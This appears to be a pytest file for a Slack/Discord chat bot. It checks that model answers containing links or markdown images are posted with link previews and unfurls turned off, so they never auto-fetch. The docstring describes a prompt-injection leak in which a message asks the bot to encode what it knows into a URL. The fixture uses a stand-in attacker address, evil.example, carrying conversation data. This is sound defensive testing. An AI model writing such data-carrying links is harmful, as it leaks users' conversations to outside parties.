"""Links that leak: what the model writes is fetched by no platform, and by no reader, before somebody opens it.

A message that the bot reads may ask it to put what it knows into an address; an image or a preview would send it there.
"""

import pytest

from core.store import Database
from tests.stage import Stage
from tests.talk import Running
from tests.wire.discord import DiscordStage
from tests.wire.openai import OpenAIServer
from tests.wire.slack import SlackStage

LEAK = "https://evil.example/p.png?q=the-conversation"
ANSWER = f"Look: ![a chart]({LEAK}) or {LEAK} or [here]({LEAK})."
_SUPPRESSES_PREVIEWS = 1 << 2


@pytest.fixture
def dialect() -> str:
    """What is on screen does not depend on the database."""
    return "sqlite"


@pytest.mark.parametrize("platform", [SlackStage, DiscordStage])
async def test_an_answer_shows_no_image_and_no_preview(url: str, platform: type[Stage], database: Database) -> None:
    async with OpenAIServer(answer=lambda _: ANSWER, pause=0.01) as model, platform() as stage:
        if isinstance(stage, SlackStage):
            stage.server.workspace.streams_a_minute = 0
        async with Running(url, model, stage):
            await stage.say("what is in there?")
            await stage.until(lambda: any("here" in one.text and one.done for one in stage.shown()))

        if isinstance(stage, SlackStage):
            _judge_slack(stage)
        if isinstance(stage, DiscordStage):
            _judge_discord(stage)


async def test_an_answer_to_a_command_of_the_platforms_own_shows_none_either(url: str, database: Database) -> None:
    """Discord gives it by other means than a message: to all, to its asker alone, and where that is known too late."""
    async with OpenAIServer(answer=lambda _: ANSWER) as model, DiscordStage() as stage:
        stage.empower("ada")
        async with Running(url, model, stage):
            await stage.say("what is in there?")
            await stage.until(lambda: any("here" in one.text and one.done for one in stage.shown()))
            await stage.command("summarize")
            await stage.until(lambda: sum("here" in one.text and one.done for one in stage.shown()) == 2)
            await stage.command("export")
            await stage.until(lambda: any(LEAK in one.text and one.private for one in stage.shown()))
            await stage.say("!set may_reset admins")
            await stage.until(lambda: any("may_reset" in one.text for one in stage.shown()))
            await stage.command("reset", author="eve")
            await stage.until(lambda: any("may reset" in one.text for one in stage.shown()))

    given = [one for one in stage.world.requests if one.path.startswith("/webhooks/") and "content" in one.body]
    assert {one.method for one in given} == {"PATCH", "POST"}
    assert all(one.body["flags"] & _SUPPRESSES_PREVIEWS for one in given)


def _judge_slack(stage: SlackStage) -> None:
    """A markdown block makes a link of an image; docs.slack.dev/reference/block-kit/blocks/markdown-block."""
    posts = [given for method, given, _ in stage.server.calls if method == "chat.postMessage"]
    assert posts
    assert all(given["unfurl_links"] is given["unfurl_media"] is False for given in posts)
    assert {block["type"] for message in stage.server.workspace.messages for block in message.blocks} == {"markdown"}


def _judge_discord(stage: DiscordStage) -> None:
    written = [one for one in stage.world.requests if one.method == "POST" and one.path.endswith("/messages")]
    assert written
    assert all(one.body["flags"] & _SUPPRESSES_PREVIEWS for one in written)
    assert not any("![" in one.text for one in stage.shown())
    assert f"[a chart]({LEAK})" in stage.shown()[0].text
